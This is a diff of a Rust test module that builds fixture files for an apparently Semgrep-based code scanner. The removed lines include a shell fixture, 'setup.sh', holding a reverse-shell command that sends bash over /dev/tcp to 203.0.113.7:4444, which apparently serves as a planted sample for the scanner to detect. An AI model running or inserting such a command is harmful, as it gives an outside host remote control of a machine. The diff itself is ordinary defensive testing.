@@ -17,21 +17,10 @@ const KILLED: &[u8] = include_bytes!("../../../testdata/semgrep/killed-engine.js
 
 pub(super) fn all() -> TestCopy {
     testcopy::copy()
-        .file("py", "scripts/a.py", Language::Python, "import json\nprint(json.dumps({}))\n")
-        .file(
-            "sh",
-            "setup.sh",
-            Language::Shell,
-            "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
-        )
+        .scripts()
         .file("js", "broken.js", Language::JavaScript, "function (((((;\n")
         .file("js", "bomb.js", Language::JavaScript, "const x=a+a;\n")
-        .planted("js", Language::JavaScript)
-        .planted("ts", Language::TypeScript)
-        .planted("tsx", Language::Tsx)
-        .planted("py", Language::Python)
-        .planted("sh", Language::Shell)
-        .planted("txt", Language::Text)
+        .planted_for_semgrep()
 }
 
 fn judged(first: &[u8], second: Option<&[u8]>, copy: &TestCopy) -> Result<ToolReport, ToolError> {
